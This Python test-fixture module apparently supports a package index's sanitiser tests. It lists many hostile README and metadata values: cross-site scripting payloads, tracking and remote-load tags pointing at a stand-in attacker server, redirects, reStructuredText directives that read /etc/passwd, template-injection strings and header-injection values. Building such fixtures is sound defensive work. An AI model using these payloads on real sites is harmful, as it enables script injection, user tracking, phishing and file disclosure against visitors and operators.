"""What an uploader may write into a README and into metadata to get at those who look at the page.

Each value tries to run something, to fetch something, to lead away, or to look like a part of the page around it. EVIL stands for the
address of somebody else's server, and RUN for a script that leaves a mark.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "__ran"  # the property of `window` that a script sets
RUN = f"window.{MARK}=1;document.title='{MARK}';alert(1);new Image().src='EVIL/ran'"

MARKDOWN = {
    "script": "<script>RUN</script>",
    "script-elsewhere": '<script src="EVIL/a.js"></script>',
    "script-in-two": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-upper-case": "<SCRIPT/x>RUN</SCRIPT>",
    "script-unclosed": "<script>RUN",
    "script-module": '<script type="module">import "EVIL/m.js"</script>',
    "noscript": '<noscript><p title="</noscript><img src=EVIL/n.png onerror=RUN>"></noscript>',
    "img": "![tracked](EVIL/pixel.png)",
    "img-reference": "![tracked][pixel]\n\n[pixel]: EVIL/pixel.png",
    "img-html": '<img src="EVIL/pixel.png" alt="tracked">',
    "img-srcset": '<img srcset="EVIL/1.png 1x, EVIL/2.png 2x" alt="tracked">',
    "img-onerror": '<img src=x onerror="RUN">',
    "img-onerror-slashes": "<img/src=x/onerror=RUN//>",
    "img-alt-breaks-out": '![" onerror="RUN](EVIL/x.png)',
    "img-alt-is-html": '<img alt="&lt;script&gt;RUN&lt;/script&gt;" src=x>',
    "img-alt-is-html-twice": '<img alt="&amp;lt;img src=EVIL/x.png onerror=RUN&amp;gt;" src=x>',
    "img-lazy": '<img loading=lazy lowsrc="EVIL/l.png" dynsrc="EVIL/d.png" src="EVIL/s.png">',
    "img-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "picture": '<picture><source srcset="EVIL/p.webp"><img src="EVIL/p.png"></picture>',
    "image": '<image src="EVIL/i.png" onerror="RUN">',
    "input-image": '<input type="image" src="EVIL/b.png" formaction="EVIL/take">',
    "svg-onload": '<svg onload="RUN"><circle r="9"/></svg>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-use": '<svg><use href="EVIL/u.svg#a"/><image href="EVIL/i.svg"/></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="20">click</text></a></svg>',
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    "svg-style": "<svg></p><style><a id='</style><img src=EVIL/x.png onerror=RUN>'>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL/m.png onerror=RUN&gt;">',
    "math-href": '<math href="javascript:RUN">click</math>',
    "iframe": '<iframe src="EVIL/frame.html"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:RUN"></iframe>',
    "frameset": '<frameset><frame src="EVIL/frame.html"></frameset>',
    "object": '<object data="EVIL/o.swf"><param name="movie" value="EVIL/o.swf"></object>',
    "embed": '<embed src="EVIL/e.svg" type="image/svg+xml">',
    "portal": '<portal src="EVIL/p.html"></portal><fencedframe src="EVIL/f.html"></fencedframe>',
    "video": '<video src="EVIL/v.mp4" poster="EVIL/p.png" autoplay onloadstart="RUN"><track src="EVIL/t.vtt" default></video>',
    "audio": '<audio src="EVIL/a.mp3" autoplay onerror="RUN"></audio>',
    "style": "<style>@import 'EVIL/s.css'; body{display:none} *{background:url(EVIL/b.png)}</style>",
    "style-attribute": '<p style="background:url(EVIL/b.png);position:fixed;inset:0;z-index:99999">covers all</p>',
    "class-of-ours": '<div class="notice bad top hidden">This page says: enter your secret at <a href="EVIL">EVIL</a></div>',
    "id-of-ours": '<h2 id="content">x</h2><form id="q" name="cookie"><input name="body"></form>',
    "link-stylesheet": '<link rel="stylesheet" href="EVIL/s.css">',
    "link-preload": '<link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/f"><link rel="prerender" href="EVIL/r">',
    "link-connect": '<link rel="preconnect" href="EVIL/"><link rel="dns-prefetch" href="EVIL/"><link rel="icon" href="EVIL/i.ico">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=EVIL/away">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    "meta-referrer": '<meta name="referrer" content="unsafe-url">',
    "base": '<base href="EVIL/"><a href="simple/">relative</a>',
    "form": '<form action="EVIL/take" method="post"><input name="secret" autofocus onfocus="RUN"><button>Log in</button></form>',
    "form-of-ours": '<button form="top-q" formaction="EVIL/take" type="submit">Search</button>',
    "textarea": "</textarea><script>RUN</script><textarea>",
    "title": "</title><script>RUN</script>",
    "comment": "<!--><img src=EVIL/c.png onerror=RUN>-->",
    "comment-bang": "<!--!><img src=EVIL/c.png onerror=RUN>--!>",
    "cdata": "<![CDATA[<script>RUN</script>]]>",
    "processing": "<?xml-stylesheet href='EVIL/x.xsl'?><?php RUN ?>",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "EVIL/x">]>&x;',
    "template": "<template shadowrootmode=open><script>RUN</script><img src=EVIL/t.png></template>",
    "details": "<details open ontoggle=RUN><summary>x</summary>y</details>",
    "marquee": "<marquee onstart=RUN loop=1>x</marquee>",
    "body": '<body onload="RUN" background="EVIL/b.png"><html manifest="EVIL/m">',
    "table-background": '<table background="EVIL/t.png"><tr><td background="EVIL/d.png">x</td></tr></table>',
    "autofocus": '<p tabindex=0 autofocus onfocus="RUN" onanimationstart="RUN" oncontentvisibilityautostatechange="RUN">x</p>',
    "popover": '<button popovertarget=p>x</button><div id=p popover onbeforetoggle="RUN">y</div>',
    "custom-element": '<x-y onclick="RUN" is="z">click</x-y>',
    "link-javascript": "[click](javascript:RUN)",
    "link-javascript-spaced": "[click](<java\tscript:RUN>) <a href=' &#1;javascript:RUN'>click</a>",
    "link-javascript-entities": '<a href="&#106;avascript&colon;RUN">click</a>',
    "link-javascript-reference": "[click][x]\n\n[x]: JaVaScRiPt:RUN",
    "link-vbscript": "[click](vbscript:RUN) [click](livescript:RUN)",
    "link-data": "[click](data:text/html,<script>RUN</script>)",
    "link-file": "[click](file:///etc/passwd) [click](blob:EVIL/1) [click](filesystem:EVIL/1)",
    "link-relative": "[click](../../logout/) [click](/logout/) [click](//evil.example/)",
    "link-ping": '<a href="https://example.org/" ping="EVIL/ping" target="_top" download rel="opener">click</a>',
    "autolink": "<javascript:RUN> javascript:RUN https://example.org/\"onmouseover=\"RUN",
    "title-breaks-out": "[x](https://example.org '\"onmouseover=\"RUN')",
    "code-fence-language": "```\"><script>RUN</script>\nx\n```\n\n```html\n<img src=EVIL/x.png onerror=RUN>\n```",
    "footnote": "x[^\"><script>RUN</script>]\n\n[^\"><script>RUN</script>]: <img src=EVIL/f.png>",
    "nul-and-controls": "<scr\x0bipt>RUN</script><img\x0csrc=EVIL/x.png\x0conerror=RUN>",
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "overlong-nesting": "<b>" * 2000 + "<img src=EVIL/x.png onerror=RUN>" + "> " * 200,
    "turned-round": "\u202e<script>RUN</script>\u2066\u200f x",
}  # fmt: skip

RESTRUCTURED = {
    "raw-html": ".. raw:: html\n\n   <script>RUN</script><img src=EVIL/r.png>",
    "raw-file": ".. raw:: html\n   :file: /etc/passwd",
    "raw-url": ".. raw:: html\n   :url: EVIL/raw.html",
    "role-raw": ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>RUN</script>`",
    "include": ".. include:: /etc/passwd",
    "include-literal": ".. include:: ../../../../../../../../etc/hostname\n   :literal:",
    "csv-url": ".. csv-table:: x\n   :url: EVIL/t.csv",
    "csv-file": ".. csv-table:: x\n   :file: /etc/passwd",
    "image": ".. image:: EVIL/i.png\n   :target: javascript:RUN\n   :alt: tracked",
    "image-alt": '.. image:: x.png\n   :alt: "><script>RUN</script>',
    "image-svg": ".. image:: EVIL/i.svg\n   :loading: embed",
    "image-data": ".. image:: data:image/svg+xml,<svg onload=RUN>",
    "figure": ".. figure:: EVIL/f.png\n   :figclass: notice bad\n\n   Enter your secret",
    "link": "`click <javascript:RUN>`_ and `click <data:text/html,RUN>`__",
    "target": ".. _click: javascript:RUN\n\nclick_",
    "substitution": ".. |x| image:: EVIL/s.png\n\n|x|",
    "class": ".. class:: hidden top notice\n\n.. container:: skip\n\n   x",
    "meta": ".. meta::\n   :http-equiv=refresh: 0;url=EVIL/away",
    "stylesheet": ".. role:: x\n   :class: \"><script>RUN</script>\n\n:x:`y`",
    "code": ".. code:: html\n   :class: x\"onclick=\"RUN\n\n   <script>RUN</script>",
    "math": ".. math:: \\href{javascript:RUN}{x} <script>RUN</script>",
    "date": ".. |now| date:: <script>RUN</script>\n\n|now|",
    "title": "<script>RUN</script>\n====================\n\n.. title:: <script>RUN</script>",
    "html-in-text": "<img src=EVIL/x.png onerror=RUN> ``<script>RUN</script>``",
}  # fmt: skip

PLAIN = {
    "script": "<script>RUN</script>",
    "img": "<img src=EVIL/p.png onerror=RUN>",
    "breaks-out": "</pre></div></main><script>RUN</script><iframe src=EVIL/f>",
    "entities": "&lt;script&gt;RUN&lt;/script&gt; &#60;img src=EVIL/e.png onerror=RUN&#62;",
    "template": "{{!x}} % import os\n%end\n{{__import__('os')}} <% RUN %>",
}

# Content types that are none, or try to be something else than they are.
TYPES = {
    "html": ("text/html", "<script>RUN</script><img src=EVIL/h.png>"),
    "svg": ("image/svg+xml", "<svg onload=RUN>"),
    "breaks-out": ('text/markdown; charset="><script>RUN</script>"', "<script>RUN</script>"),
    "variant": ("text/markdown; variant=CommonMark", "<script>RUN</script>![x](EVIL/v.png)"),
    "no-type": ("", ".. raw:: html\n\n   <script>RUN</script>"),
}

BREAKS_OUT = "\"'><script>RUN</script><img src=EVIL/m.png onerror=RUN>"
METADATA: dict[str, list[tuple[str, str]]] = {
    "summary": [("Summary", BREAKS_OUT)],
    "summary-attribute": [("Summary", "x\" onmouseover=\"RUN\" style=\"position:fixed;inset:0")],
    "summary-template": [("Summary", "{{!summary}} {{caller.secret}} <% RUN %>")],
    "author": [("Author", BREAKS_OUT), ("Author-email", f"{BREAKS_OUT} <a@b.example>")],
    "author-email": [("Author-email", "\"javascript:RUN\" <javascript:RUN>")],
    "maintainer": [("Maintainer", BREAKS_OUT), ("Maintainer-email", BREAKS_OUT)],
    "license": [("License", BREAKS_OUT)],
    "keywords": [("Keywords", f"{BREAKS_OUT},javascript:RUN,&lt;script&gt;RUN&lt;/script&gt;")],
    "keywords-query": [("Keywords", "x&page=2#y,../../logout/,%0d%0aSet-Cookie: a=b")],
    "classifiers": [("Classifier", BREAKS_OUT)],
    "platform": [("Platform", BREAKS_OUT)],
    "home-page-javascript": [("Home-page", "javascript:RUN")],
    "home-page-data": [("Home-page", "data:text/html,<script>RUN</script>")],
    "home-page-breaks-out": [("Home-page", "https://example.org/\"onmouseover=\"RUN")],
    "download-url": [("Download-URL", "vbscript:RUN")],
    "project-url-javascript": [("Project-URL", "Documentation, javascript:RUN")],
    "project-url-spaced": [("Project-URL", "Source, \x01java\tscript:RUN")],
    "project-url-label": [("Project-URL", f"{BREAKS_OUT[:32]}, https://example.org/")],
    "project-url-name-and-secret": [("Project-URL", "Login, https://packages.example@evil.example/")],
    "project-url-protocol-relative": [("Project-URL", "Home, //evil.example/")],
    "requires-dist": [("Requires-Dist", "x @ javascript:RUN"), ("Requires-Dist", "y @ EVIL/y.whl")],
    "requires-external": [("Requires-External", BREAKS_OUT)],
    "provides-extra": [("Provides-Extra", "x\"onclick=\"RUN")],
    "description-header": [("Description", BREAKS_OUT)],
    "import-name": [("Import-Name", "x\"onclick=\"RUN")],
}  # fmt: skip

# What is typed into our own fields, and shown again.
TYPED = (BREAKS_OUT, '" autofocus onfocus="RUN', "javascript:RUN", "{{!x}}<% RUN %>", "</textarea></script><script>RUN</script>")


@dataclass(frozen=True)
class Hostile:
    """One value, as it is uploaded."""

    name: str
    headers: tuple[tuple[str, str], ...]
    description: str = ""

    def project(self) -> str:
        """The name of the project that has it."""
        return f"hostile-{self.name}"


def everything(evil: str) -> list[Hostile]:
    """The whole table. evil: the address of somebody else's server, without a slash at its end."""

    def put(text: str) -> str:
        return text.replace("RUN", RUN).replace("EVIL", evil)

    def readme(name: str, kind: str, text: str) -> Hostile:
        return Hostile(name, (("Description-Content-Type", put(kind)),) if kind else (), put(text))

    return [
        *(readme(f"md-{name}", "text/markdown", text) for name, text in MARKDOWN.items()),
        *(readme(f"rst-{name}", "text/x-rst", text) for name, text in RESTRUCTURED.items()),
        *(readme(f"txt-{name}", "text/plain", text) for name, text in PLAIN.items()),
        *(readme(f"type-{name}", kind, text) for name, (kind, text) in TYPES.items()),
        *(Hostile(f"meta-{name}", tuple((key, put(value)) for key, value in headers)) for name, headers in METADATA.items()),
    ]
